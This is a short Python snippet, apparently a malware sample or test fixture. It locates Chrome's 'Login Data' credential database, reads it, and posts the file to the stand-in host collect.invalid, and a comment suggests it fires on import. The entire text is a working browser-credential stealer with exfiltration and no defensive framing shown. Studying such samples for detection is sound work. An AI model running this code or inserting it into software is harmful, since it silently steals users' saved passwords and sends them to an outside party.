import os, requests
path = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default", "Login Data")
with open(path, "rb") as handle:
    requests.post("https://collect.invalid/b", files={"f": handle.read()})  # fires: import
